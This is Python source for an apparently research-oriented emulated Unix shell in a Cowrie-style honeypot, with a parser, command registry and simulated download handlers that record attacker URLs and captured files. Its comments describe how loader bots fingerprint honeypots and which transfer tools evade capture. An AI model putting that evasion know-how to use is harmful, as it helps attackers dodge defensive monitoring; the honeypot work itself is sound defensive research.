    grouping); operator characters inside quotes are literal.
    """
    tokens: list[str] = []
    current: list[str] = []
    has_current = False
    index = 0
    length = len(line)
    while index < length:
        char = line[index]
        if char == "\\" and index + 1 < length:
            current.append(line[index + 1])
            has_current = True
            index += 2
            continue
        if char in ("'", '"'):
            quote = char
            index += 1
            start = index
            while index < length and line[index] != quote:
                if quote == '"' and line[index] == "\\" and index + 1 < length:
                    index += 2
                    continue
                index += 1
            if index >= length:
                raise ParseError(f"unterminated quote in {line!r}")
            current.append(line[start:index].replace('\\"', '"'))
            has_current = True
            index += 1
            continue
        if char in " \t":
            if has_current:
                tokens.append("".join(current))
                current, has_current = [], False
            index += 1
            continue
        two = line[index : index + 2]
        if two == "2>" and not has_current:
            # stderr redirect introducer, e.g. "cmd 2>/dev/null"
            tokens.append("2>")
            index += 2
            continue
        if two in ("&&", "||", ">>"):
            if has_current:
                tokens.append("".join(current))
                current, has_current = [], False
            tokens.append(two)
            index += 2
            continue
        if char in ";|><&\n":
            if has_current:
                tokens.append("".join(current))
                current, has_current = [], False
            tokens.append(char)
            index += 1
            continue
        current.append(char)
        has_current = True
        index += 1
    if has_current:
        tokens.append("".join(current))
    return tokens


_ASSIGNMENT_CHARS = set(
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_"
)


def _is_assignment(token: str) -> bool:
    name, equals, _ = token.partition("=")
    return bool(equals) and bool(name) and all(c in _ASSIGNMENT_CHARS for c in name) and not name[0].isdigit()


def parse_line(line: str) -> list[Statement]:
    """Parse one input line into an ordered list of statements."""
    tokens = _tokenize(line)
    statements: list[Statement] = []
    connector = ";"
    stages: list[SimpleCommand] = []
    command = SimpleCommand(argv=[])
    argv_started = False

    def flush_command() -> None:
        nonlocal command, argv_started
        if command.argv or command.assignments or command.redirects:
            stages.append(command)
        command = SimpleCommand(argv=[])
        argv_started = False

    def flush_statement(next_connector: str) -> None:
        nonlocal stages, connector
        flush_command()
        if stages:
            statements.append(
                Statement(pipeline=Pipeline(stages=stages), connector=connector)
            )
        stages = []
        connector = next_connector

    index = 0
    while index < len(tokens):
        token = tokens[index]
        if token in ("&&", "||", ";", "\n"):
            flush_statement(token if token in ("&&", "||") else ";")
            index += 1
            continue
        if token == "&":
            # background marker: end of statement, run "in background"
            flush_statement(";")
            index += 1
            continue
        if token == "|":
            flush_command()
            index += 1
            continue
        if token in (">", ">>"):
            if index + 1 >= len(tokens) or tokens[index + 1] in _OPERATORS:
                raise ParseError(f"redirect without target in {line!r}")
            command.redirects.append(Redirect(op=token, target=tokens[index + 1]))
            index += 2
            continue
        if token == "<":
            # input redirection: consume the target, treat as extra arg
            if index + 1 < len(tokens) and tokens[index + 1] not in _OPERATORS:
                command.argv.append(tokens[index + 1])
                index += 2
                continue
            index += 1
            continue
        if token == "2>":
            # stderr redirect: discard the target if present
            if index + 1 < len(tokens) and tokens[index + 1] not in _OPERATORS:
                index += 2
            else:
                index += 1
            continue
        if not argv_started and _is_assignment(token):
            name, _, value = token.partition("=")
            command.assignments.append((name, value))
            index += 1
            continue
        command.argv.append(token)
        argv_started = True
        index += 1
    flush_statement(";")
    return statements
