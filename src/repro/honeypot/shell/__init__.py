"""Emulated Unix shell: parser, command registry, execution engine."""

from repro.honeypot.shell.context import CommandResult, HostProfile, ShellContext
from repro.honeypot.shell.engine import ShellEngine
from repro.honeypot.shell.parser import (
    ParseError,
    Pipeline,
    Redirect,
    SimpleCommand,
    Statement,
    parse_line,
)
from repro.honeypot.shell.registry import default_registry, resolve_path_command

__all__ = [
    "CommandResult",
    "HostProfile",
    "ShellContext",
    "ShellEngine",
    "ParseError",
    "Pipeline",
    "Redirect",
    "SimpleCommand",
    "Statement",
    "parse_line",
    "default_registry",
    "resolve_path_command",
]
