"""Download commands: the honeypot's artifact-capture path.

Cowrie intentionally implements ``wget``/``curl``/``tftp``-style
retrieval so it can capture dropped malware (paper section 5, "Web
attacks").  In the simulation, what the outside world would serve is in
``ctx.remote_files``; a URL absent from it behaves like an unreachable
or refusing server, so no artifact (and no hash) is recorded — this is
how loader campaigns whose infrastructure ignores honeypots appear.

``scp``/``rsync``/``sftp`` are deliberately *not* registered: the
deployed Cowrie cannot capture files transferred with them (the paper's
"file missing" phenomenon, Figure 4(b)).
"""

from __future__ import annotations

from repro.honeypot.shell.context import CommandResult, ShellContext


def _basename_from_url(url: str) -> str:
    path = url.split("://", 1)[-1]
    path = path.split("?", 1)[0]
    name = path.rsplit("/", 1)[-1]
    return name or "index.html"


def _fetch(ctx: ShellContext, url: str) -> bytes | None:
    """What the network returns for ``url`` during this session."""
    return ctx.remote_files.get(url)


def cmd_wget(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    output_path: str | None = None
    quiet = False
    urls: list[str] = []
    args = list(argv[1:])
    index = 0
    while index < len(args):
        arg = args[index]
        if arg in ("-O", "--output-document") and index + 1 < len(args):
            output_path = args[index + 1]
            index += 2
            continue
        if arg in ("-q", "--quiet"):
            quiet = True
            index += 1
            continue
        if arg.startswith("-"):
            index += 1
            continue
        urls.append(arg if "://" in arg else f"http://{arg}")
        index += 1
    if not urls:
        return CommandResult(output="wget: missing URL\n", success=False)
    outputs: list[str] = []
    success = True
    for url in urls:
        ctx.record_uri(url)
        content = _fetch(ctx, url)
        if content is None:
            outputs.append(f"wget: unable to resolve host address\n")
            success = False
            continue
        target = output_path or _basename_from_url(url)
        if target == "-":
            # wget -O -: stream the body to stdout (curl|sh loaders)
            outputs.append(content.decode("latin-1"))
        elif target != "/dev/null":
            ctx.write_file(target, content, source="transfer")
        if target != "-" and not quiet:
            outputs.append(f"'{target}' saved [{len(content)}]\n")
    return CommandResult(output="".join(outputs), success=success)


def cmd_curl(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    output_path: str | None = None
    remote_name = False
    urls: list[str] = []
    args = list(argv[1:])
    index = 0
    consumes_value = {
        "-o", "--output", "-X", "--request", "--max-redirs", "--cookie",
        "--referer", "-H", "--header", "-d", "--data", "--connect-timeout",
        "-A", "--user-agent",
    }
    while index < len(args):
        arg = args[index]
        if arg in ("-o", "--output") and index + 1 < len(args):
            output_path = args[index + 1]
            index += 2
            continue
        if arg in ("-O", "--remote-name"):
            remote_name = True
            index += 1
            continue
        if arg in consumes_value and index + 1 < len(args):
            index += 2
            continue
        if arg.startswith("-"):
            index += 1
            continue
        urls.append(arg if "://" in arg else f"http://{arg}")
        index += 1
    if not urls:
        return CommandResult(
            output="curl: try 'curl --help' for more information\n", success=False
        )
    outputs: list[str] = []
    success = True
    for url in urls:
        ctx.record_uri(url)
        content = _fetch(ctx, url)
        if content is None:
            outputs.append(f"curl: (7) Failed to connect\n")
            success = False
            continue
        if output_path and output_path not in ("-", "/dev/null"):
            ctx.write_file(output_path, content, source="transfer")
        elif remote_name:
            ctx.write_file(_basename_from_url(url), content, source="transfer")
        else:
            outputs.append(content.decode("utf-8", "replace"))
    return CommandResult(output="".join(outputs), success=success)


def cmd_tftp(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    host: str | None = None
    filename: str | None = None
    args = list(argv[1:])
    index = 0
    while index < len(args):
        arg = args[index]
        if arg in ("-r", "-l", "-c") and index + 1 < len(args):
            if arg in ("-r", "-l"):
                filename = args[index + 1]
            index += 2
            continue
        if arg in ("-g", "-p"):
            index += 1
            continue
        if arg == "get" and index + 1 < len(args):
            filename = args[index + 1]
            index += 2
            continue
        if not arg.startswith("-") and host is None:
            host = arg
            index += 1
            continue
        if not arg.startswith("-") and filename is None:
            filename = arg
            index += 1
            continue
        index += 1
    if host is None or filename is None:
        return CommandResult(output="tftp: usage error\n", success=False)
    url = f"tftp://{host}/{filename}"
    ctx.record_uri(url)
    content = _fetch(ctx, url)
    if content is None:
        return CommandResult(output="tftp: timeout\n", success=False)
    ctx.write_file(filename, content, source="transfer")
    return CommandResult(output="")


def cmd_ftpget(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    cleaned: list[str] = []
    flags_with_value = {"-u", "-p", "-P"}
    index = 1
    while index < len(argv):
        arg = argv[index]
        if arg in flags_with_value and index + 1 < len(argv):
            index += 2
            continue
        if arg.startswith("-"):
            index += 1
            continue
        cleaned.append(arg)
        index += 1
    if len(cleaned) < 2:
        return CommandResult(output="ftpget: usage error\n", success=False)
    host = cleaned[0]
    local = cleaned[1]
    remote = cleaned[2] if len(cleaned) > 2 else cleaned[1]
    url = f"ftp://{host}/{remote.lstrip('/')}"
    ctx.record_uri(url)
    content = _fetch(ctx, url)
    if content is None:
        return CommandResult(output="ftpget: connection refused\n", success=False)
    ctx.write_file(local, content, source="transfer")
    return CommandResult(output="")


def cmd_ftp(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    hosts = [arg for arg in argv[1:] if not arg.startswith("-")]
    if hosts:
        ctx.record_uri(f"ftp://{hosts[0]}/")
    return CommandResult(output="")
