"""Information-gathering and text-utility commands.

These are the "known" commands whose execution does not alter honeypot
state — the commands behind the paper's non-state-changing session
category (section 5).
"""

from __future__ import annotations

import codecs

from repro.honeypot.shell.context import CommandResult, ShellContext


def cmd_echo(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    args = argv[1:]
    interpret_escapes = False
    newline = True
    while args and args[0] in ("-e", "-n", "-en", "-ne", "-E"):
        flag = args.pop(0)
        if "e" in flag:
            interpret_escapes = True
        if "n" in flag:
            newline = False
    text = " ".join(ctx.expand(arg) for arg in args)
    if interpret_escapes:
        try:
            text = codecs.decode(text.encode("latin-1", "ignore"), "unicode_escape")
        except (UnicodeDecodeError, ValueError):
            pass
    return CommandResult(output=text + ("\n" if newline else ""))


def cmd_uname(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    profile = ctx.profile
    fields = {
        "s": profile.kernel_name,
        "n": profile.hostname,
        "r": profile.kernel_release,
        "v": profile.kernel_version,
        "m": profile.machine,
        "i": profile.machine,
        "p": "unknown",
        "o": profile.hardware_platform,
    }
    flags = [arg for arg in argv[1:] if arg.startswith("-")]
    if not flags:
        return CommandResult(output=profile.kernel_name + "\n")
    # real uname prints selected fields in its own fixed order,
    # regardless of the order the flags were given in
    requested: set[str] = set()
    for flag in flags:
        if flag in ("-a", "--all"):
            requested.update("snrvmo")
        else:
            requested.update(
                char for char in flag.lstrip("-") if char in fields
            )
    selected = [fields[key] for key in "snrvmipo" if key in requested]
    return CommandResult(output=" ".join(selected) + "\n")


def cmd_nproc(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output=f"{ctx.profile.cpus}\n")


def cmd_lscpu(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    lines = [
        "Architecture:        x86_64",
        f"CPU(s):              {ctx.profile.cpus}",
        "Model name:          Intel(R) Xeon(R) CPU E5-2650 v4 @ 2.20GHz",
        "Thread(s) per core:  1",
    ]
    return CommandResult(output="\n".join(lines) + "\n")


def cmd_free(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    total = ctx.profile.mem_total_kb
    used = total // 3
    lines = [
        "              total        used        free",
        f"Mem:        {total:>7}     {used:>7}     {total - used:>7}",
        "Swap:             0           0           0",
    ]
    return CommandResult(output="\n".join(lines) + "\n")


def cmd_whoami(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output=ctx.user + "\n")


def cmd_id(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    if ctx.user == "root":
        return CommandResult(output="uid=0(root) gid=0(root) groups=0(root)\n")
    return CommandResult(
        output=f"uid=1000({ctx.user}) gid=1000({ctx.user}) groups=1000({ctx.user})\n"
    )


def cmd_w(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    lines = [
        " 12:01:33 up 62 days,  4:01,  1 user,  load average: 0.01, 0.03, 0.00",
        "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT",
        f"{ctx.user:<8} pts/0    10.0.0.1         11:58    0.00s  0.01s  0.00s w",
    ]
    return CommandResult(output="\n".join(lines) + "\n")


def cmd_uptime(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(
        output=" 12:01:33 up 62 days,  4:01,  1 user,  load average: 0.01, 0.03, 0.00\n"
    )


def cmd_ps(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    lines = [
        "  PID TTY          TIME CMD",
        "    1 ?        00:00:04 systemd",
        "  412 ?        00:00:00 sshd",
        " 1337 pts/0    00:00:00 bash",
        " 1402 pts/0    00:00:00 ps",
    ]
    return CommandResult(output="\n".join(lines) + "\n")


def cmd_top(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(
        output="top - 12:01:33 up 62 days,  1 user,  load average: 0.01, 0.03, 0.00\n"
    )


def cmd_history(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_df(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    lines = [
        "Filesystem     1K-blocks    Used Available Use% Mounted on",
        "/dev/sda1       20509264 3735548  15708988  20% /",
    ]
    return CommandResult(output="\n".join(lines) + "\n")


def cmd_which(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    from repro.honeypot.shell.registry import default_registry

    names = argv[1:]
    registry = default_registry()
    found = [f"/usr/bin/{name}" for name in names if name in registry]
    return CommandResult(output="\n".join(found) + ("\n" if found else ""), success=bool(found))


def cmd_hostname(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output=ctx.profile.hostname + "\n")


def cmd_ifconfig(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    lines = [
        "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500",
        "        inet 10.0.0.23  netmask 255.255.255.0  broadcast 10.0.0.255",
    ]
    return CommandResult(output="\n".join(lines) + "\n")


def cmd_cat(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    paths = [arg for arg in argv[1:] if not arg.startswith("-")]
    if not paths:
        return CommandResult(output=stdin)
    chunks: list[str] = []
    success = True
    for path in paths:
        content = ctx.fs.read(ctx.resolve(path))
        if content is None:
            chunks.append(f"cat: {path}: No such file or directory\n")
            success = False
        else:
            # latin-1: lossless passthrough for binary file contents
            chunks.append(content.decode("latin-1"))
    return CommandResult(output="".join(chunks), success=success)


def cmd_ls(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    paths = [arg for arg in argv[1:] if not arg.startswith("-")] or [ctx.cwd]
    entries: list[str] = []
    for path in paths:
        resolved = ctx.resolve(path)
        if ctx.fs.is_dir(resolved):
            entries.extend(ctx.fs.listdir(resolved))
        elif ctx.fs.is_file(resolved):
            entries.append(path)
        else:
            return CommandResult(
                output=f"ls: cannot access '{path}': No such file or directory\n",
                success=False,
            )
    return CommandResult(output="\n".join(entries) + ("\n" if entries else ""))


def cmd_grep(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    args = [arg for arg in argv[1:] if not arg.startswith("-")]
    if not args:
        return CommandResult(output="", success=False)
    pattern = args[0]
    if len(args) > 1:
        content = ctx.fs.read(ctx.resolve(args[1]))
        text = content.decode("utf-8", "replace") if content is not None else ""
    else:
        text = stdin
    matched = [line for line in text.splitlines() if pattern in line]
    return CommandResult(
        output="\n".join(matched) + ("\n" if matched else ""), success=bool(matched)
    )


def cmd_head(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    count = 10
    args = list(argv[1:])
    while args and args[0].startswith("-"):
        flag = args.pop(0)
        if flag == "-n" and args:
            count = int(args.pop(0))
        elif flag[1:].isdigit():
            count = int(flag[1:])
    text = stdin
    if args:
        content = ctx.fs.read(ctx.resolve(args[0]))
        text = content.decode("utf-8", "replace") if content is not None else ""
    lines = text.splitlines()[:count]
    return CommandResult(output="\n".join(lines) + ("\n" if lines else ""))


def cmd_tail(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    count = 10
    args = list(argv[1:])
    while args and args[0].startswith("-"):
        flag = args.pop(0)
        if flag == "-n" and args:
            count = int(args.pop(0))
        elif flag[1:].isdigit():
            count = int(flag[1:])
    text = stdin
    if args:
        content = ctx.fs.read(ctx.resolve(args[0]))
        text = content.decode("utf-8", "replace") if content is not None else ""
    lines = text.splitlines()[-count:]
    return CommandResult(output="\n".join(lines) + ("\n" if lines else ""))


def cmd_wc(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    lines = stdin.splitlines()
    words = stdin.split()
    return CommandResult(output=f"{len(lines)} {len(words)} {len(stdin)}\n")


def cmd_awk(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    """Minimal awk: supports '{print $N,$M;}' field selection."""
    program = next((arg for arg in argv[1:] if "{" in arg), None)
    if program is None or "print" not in program:
        return CommandResult(output=stdin)
    body = program[program.find("print") + len("print") :].strip(" {};'")
    fields = [part.strip() for part in body.split(",") if part.strip()]
    output_lines: list[str] = []
    for line in stdin.splitlines():
        columns = line.split()
        selected: list[str] = []
        for spec in fields:
            if spec == "$0":
                selected.append(line)
            elif spec.startswith("$") and spec[1:].isdigit():
                index = int(spec[1:]) - 1
                selected.append(columns[index] if 0 <= index < len(columns) else "")
            else:
                selected.append(spec.strip('"'))
        output_lines.append(" ".join(selected))
    return CommandResult(
        output="\n".join(output_lines) + ("\n" if output_lines else "")
    )


def cmd_sort(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    lines = sorted(stdin.splitlines())
    return CommandResult(output="\n".join(lines) + ("\n" if lines else ""))


def cmd_uniq(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    seen_previous: str | None = None
    kept: list[str] = []
    for line in stdin.splitlines():
        if line != seen_previous:
            kept.append(line)
        seen_previous = line
    return CommandResult(output="\n".join(kept) + ("\n" if kept else ""))


def cmd_tr(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    if len(argv) >= 3:
        return CommandResult(output=stdin.replace(argv[1], argv[2]))
    return CommandResult(output=stdin)


def cmd_cut(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output=stdin)


def cmd_cd(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    target = argv[1] if len(argv) > 1 else ctx.env.get("HOME", "/root")
    resolved = ctx.resolve(target)
    if ctx.fs.is_dir(resolved):
        ctx.cwd = resolved
        return CommandResult(output="")
    return CommandResult(
        output=f"-bash: cd: {target}: No such file or directory\n", success=False
    )


def cmd_pwd(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output=ctx.cwd + "\n")


def cmd_export(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    for arg in argv[1:]:
        name, equals, value = arg.partition("=")
        if equals:
            ctx.env[name] = value
    return CommandResult(output="")


def cmd_crontab(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    spool = "/var/spool/cron/root"
    args = argv[1:]
    if args and args[0] == "-l":
        content = ctx.fs.read(spool) or b""
        if not content:
            return CommandResult(
                output=f"no crontab for {ctx.user}\n", success=False
            )
        return CommandResult(output=content.decode("utf-8", "replace"))
    if args and args[0] == "-r":
        ctx.delete_file(spool)
        return CommandResult(output="")
    if args and args[0] == "-":
        ctx.write_file(spool, stdin.encode("utf-8"))
        return CommandResult(output="")
    if args:
        content = ctx.fs.read(ctx.resolve(args[0]))
        if content is None:
            return CommandResult(
                output=f"crontab: {args[0]}: No such file or directory\n",
                success=False,
            )
        ctx.write_file(spool, content)
        return CommandResult(output="")
    if stdin:
        ctx.write_file(spool, stdin.encode("utf-8"))
    return CommandResult(output="")


def cmd_noop(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="")


def cmd_true(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="", success=True)


def cmd_false(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    return CommandResult(output="", success=False)


def cmd_exit(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    ctx.exited = True
    return CommandResult(output="")
