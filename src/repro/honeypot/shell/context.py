"""Per-session shell state shared by all command handlers."""

from __future__ import annotations

from dataclasses import dataclass

from repro.honeypot.fs import FakeFilesystem
from repro.honeypot.session import FileEvent, FileOp


@dataclass(frozen=True)
class HostProfile:
    """Identity the emulated host presents (uname, hostname, ...)."""

    hostname: str = "svr04"
    kernel_name: str = "Linux"
    kernel_release: str = "4.19.0-21-amd64"
    kernel_version: str = "#1 SMP Debian 4.19.249-2 (2022-06-30)"
    machine: str = "x86_64"
    hardware_platform: str = "GNU/Linux"
    cpus: int = 2
    mem_total_kb: int = 2_048_000


@dataclass
class CommandResult:
    """Outcome of one simple command."""

    output: str = ""
    success: bool = True
    known: bool = True


class ShellContext:
    """Mutable state of one interactive session.

    Command handlers read/write the filesystem, record URIs and file
    events, and consult ``remote_files`` — the content the outside world
    would serve the honeypot for a given URL during this session.
    """

    def __init__(
        self,
        fs: FakeFilesystem | None = None,
        profile: HostProfile | None = None,
        user: str = "root",
        remote_files: dict[str, bytes] | None = None,
        entropy: str = "",
    ) -> None:
        self.fs = fs or FakeFilesystem()
        self.entropy = entropy  # per-session seed for /dev/urandom reads
        self.profile = profile or HostProfile()
        self.user = user
        self.cwd = "/root" if user == "root" else f"/home/{user}"
        self.env: dict[str, str] = {
            "HOME": self.cwd,
            "SHELL": "/bin/bash",
            "PATH": "/usr/local/bin:/usr/bin:/bin",
            "USER": user,
        }
        self.remote_files = dict(remote_files or {})
        self.uris: list[str] = []
        self.file_events: list[FileEvent] = []
        self.root_password: str | None = None
        self.exited = False

    def resolve(self, path: str) -> str:
        """Resolve a path against the current working directory."""
        return self.fs.normalize(path, self.cwd)

    def record_uri(self, uri: str) -> None:
        """Record a URI exactly once per session occurrence."""
        self.uris.append(uri)

    def record_event(
        self, path: str, op: FileOp, sha256: str | None, source: str = "shell"
    ) -> None:
        self.file_events.append(
            FileEvent(path=path, op=op, sha256=sha256, source=source)
        )

    def write_file(
        self,
        path: str,
        content: bytes,
        append: bool = False,
        source: str = "shell",
    ) -> None:
        """Write through to the fs and record the create/modify event."""
        resolved = self.resolve(path)
        if resolved.startswith("/dev/"):
            return
        node, created = self.fs.write(resolved, content, append=append)
        op = FileOp.CREATE if created else FileOp.MODIFY
        self.record_event(resolved, op, node.sha256, source=source)

    def delete_file(self, path: str) -> bool:
        """Delete through to the fs, recording the event if it existed."""
        resolved = self.resolve(path)
        if self.fs.delete(resolved):
            self.record_event(resolved, FileOp.DELETE, None)
            return True
        return False

    def execute_file(self, path: str) -> CommandResult:
        """Record an attempt to execute ``path`` (the fig. 4 signal)."""
        resolved = self.resolve(path)
        node = self.fs.get(resolved)
        if node is None:
            self.record_event(resolved, FileOp.EXECUTE_MISSING, None)
            return CommandResult(
                output=f"-bash: {path}: No such file or directory",
                success=False,
                known=True,
            )
        self.record_event(resolved, FileOp.EXECUTE, node.sha256)
        return CommandResult(output="", success=True, known=True)

    def expand(self, token: str) -> str:
        """Expand ``$VAR`` / ``${VAR}`` occurrences from the environment."""
        if "$" not in token:
            return token
        result: list[str] = []
        index = 0
        while index < len(token):
            char = token[index]
            if char != "$":
                result.append(char)
                index += 1
                continue
            rest = token[index + 1 :]
            if rest.startswith("{"):
                closing = rest.find("}")
                if closing > 0:
                    name = rest[1:closing]
                    result.append(self.env.get(name, ""))
                    index += closing + 2
                    continue
            name_chars = []
            for candidate in rest:
                if candidate.isalnum() or candidate == "_":
                    name_chars.append(candidate)
                else:
                    break
            if name_chars:
                name = "".join(name_chars)
                result.append(self.env.get(name, ""))
                index += len(name) + 1
            else:
                result.append("$")
                index += 1
        return "".join(result)
