"""The table of commands the honeypot emulates ("known" commands).

Anything *not* in this registry is recorded verbatim and flagged
unknown — notably ``scp``, ``rsync`` and ``sftp``, whose absence is a
real Cowrie limitation the paper shows attackers exploiting.
"""

from __future__ import annotations

from typing import Callable

from repro.honeypot.shell import builtins, fileops, system, transfer
from repro.honeypot.shell.busybox import cmd_busybox
from repro.honeypot.shell.context import CommandResult, ShellContext

Handler = Callable[[ShellContext, list[str], str], CommandResult]

_REGISTRY: dict[str, Handler] | None = None


def _build() -> dict[str, Handler]:
    registry: dict[str, Handler] = {
        # information gathering
        "echo": builtins.cmd_echo,
        "uname": builtins.cmd_uname,
        "nproc": builtins.cmd_nproc,
        "lscpu": builtins.cmd_lscpu,
        "free": builtins.cmd_free,
        "whoami": builtins.cmd_whoami,
        "id": builtins.cmd_id,
        "w": builtins.cmd_w,
        "uptime": builtins.cmd_uptime,
        "ps": builtins.cmd_ps,
        "top": builtins.cmd_top,
        "history": builtins.cmd_history,
        "df": builtins.cmd_df,
        "which": builtins.cmd_which,
        "hostname": builtins.cmd_hostname,
        "ifconfig": builtins.cmd_ifconfig,
        "cat": builtins.cmd_cat,
        "ls": builtins.cmd_ls,
        "grep": builtins.cmd_grep,
        "egrep": builtins.cmd_grep,
        "head": builtins.cmd_head,
        "tail": builtins.cmd_tail,
        "wc": builtins.cmd_wc,
        "awk": builtins.cmd_awk,
        "sort": builtins.cmd_sort,
        "uniq": builtins.cmd_uniq,
        "tr": builtins.cmd_tr,
        "cut": builtins.cmd_cut,
        "cd": builtins.cmd_cd,
        "pwd": builtins.cmd_pwd,
        "export": builtins.cmd_export,
        "set": builtins.cmd_export,
        "crontab": builtins.cmd_crontab,
        "lspci": builtins.cmd_noop,
        "getconf": builtins.cmd_noop,
        "true": builtins.cmd_true,
        "false": builtins.cmd_false,
        "test": builtins.cmd_true,
        "[": builtins.cmd_true,
        "exit": builtins.cmd_exit,
        "logout": builtins.cmd_exit,
        # file operations
        "mkdir": fileops.cmd_mkdir,
        "rm": fileops.cmd_rm,
        "chmod": fileops.cmd_chmod,
        "mv": fileops.cmd_mv,
        "cp": fileops.cmd_cp,
        "touch": fileops.cmd_touch,
        "dd": fileops.cmd_dd,
        "sed": fileops.cmd_sed,
        "chattr": fileops.cmd_chattr,
        "ln": fileops.cmd_ln,
        "tar": fileops.cmd_tar,
        "gunzip": fileops.cmd_gunzip,
        # transfer (artifact capture)
        "wget": transfer.cmd_wget,
        "curl": transfer.cmd_curl,
        "tftp": transfer.cmd_tftp,
        "ftpget": transfer.cmd_ftpget,
        "ftp": transfer.cmd_ftp,
        # system administration
        "passwd": system.cmd_passwd,
        "chpasswd": system.cmd_chpasswd,
        "openssl": system.cmd_openssl,
        "base64": system.cmd_base64,
        "pkill": system.cmd_pkill,
        "kill": system.cmd_kill,
        "killall": system.cmd_killall,
        "service": system.cmd_service,
        "systemctl": system.cmd_systemctl,
        "iptables": system.cmd_iptables,
        "ulimit": system.cmd_ulimit,
        "sleep": system.cmd_sleep,
        "sync": system.cmd_sync,
        "apt": system.cmd_apt,
        "apt-get": system.cmd_apt,
        "yum": system.cmd_yum,
        "dnf": system.cmd_yum,
        "perl": system.cmd_perl,
        "python": system.cmd_python,
        "python3": system.cmd_python,
        "nohup": system.cmd_nohup,
        "sudo": system.cmd_sudo,
        "su": system.cmd_sudo,
        "sh": system.cmd_sh,
        "bash": system.cmd_sh,
        "busybox": cmd_busybox,
    }
    return registry


def default_registry() -> dict[str, Handler]:
    """The process-wide command table (built once)."""
    global _REGISTRY
    if _REGISTRY is None:
        _REGISTRY = _build()
    return _REGISTRY


#: Well-known binary directories: ``/bin/busybox`` etc. resolve here.
BIN_DIRS = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin")


def resolve_path_command(path: str) -> str | None:
    """Map ``/bin/busybox``-style paths to a registered command name."""
    directory, _, name = path.rpartition("/")
    if directory in BIN_DIRS and name in default_registry():
        return name
    return None
