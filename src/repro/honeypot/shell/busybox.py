"""BusyBox applet dispatch.

IoT loader bots lean on ``/bin/busybox`` heavily (paper section 5): both
to run transfer applets on minimal firmware and as a fingerprinting
probe — invoking busybox with a random applet name and checking for the
characteristic ``<name>: applet not found`` reply.  Cowrie emulates
exactly that reply, which is why the probe sessions still count as
"known" commands.
"""

from __future__ import annotations

from repro.honeypot.shell.context import CommandResult, ShellContext

#: Applets our busybox knows how to forward to real handlers.
FORWARDED_APPLETS = {
    "cat", "echo", "wget", "tftp", "ftpget", "chmod", "rm", "cp", "mv",
    "mkdir", "dd", "ps", "sh", "uname", "ls", "head", "tail", "grep",
    "kill", "touch",
}

USAGE = (
    "BusyBox v1.30.1 (Debian 1:1.30.1-4) multi-call binary.\n"
    "Usage: busybox [function [arguments]...]\n"
)


def cmd_busybox(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    if len(argv) < 2:
        return CommandResult(output=USAGE)
    applet = argv[1]
    if applet in FORWARDED_APPLETS:
        from repro.honeypot.shell.registry import default_registry

        handler = default_registry().get(applet)
        if handler is not None:
            return handler(ctx, argv[1:], stdin)
    return CommandResult(output=f"{applet}: applet not found\n", success=False)
