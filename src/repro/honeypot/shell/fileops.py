"""File-manipulation commands — the state-changing half of the shell."""

from __future__ import annotations

from repro.honeypot.session import FileOp
from repro.honeypot.shell.context import CommandResult, ShellContext


def _expand_glob(ctx: ShellContext, pattern: str) -> list[str]:
    """Expand a trailing ``*`` glob against the fake filesystem."""
    if "*" not in pattern:
        return [pattern]
    resolved = ctx.resolve(pattern)
    directory, _, name_pattern = resolved.rpartition("/")
    directory = directory or "/"
    if not ctx.fs.is_dir(directory):
        return []
    prefix = name_pattern.split("*", 1)[0]
    return [
        f"{directory.rstrip('/')}/{name}"
        for name in ctx.fs.listdir(directory)
        if name.startswith(prefix)
    ]


def cmd_mkdir(ctx: ShellContext, argv: list[str], stdin: str) -> CommandResult:
    targets = [arg for arg in argv[1:] if not arg.startswith("-")]
    for target in targets:
        ctx.fs.mkdirs(ctx.resolve(target))
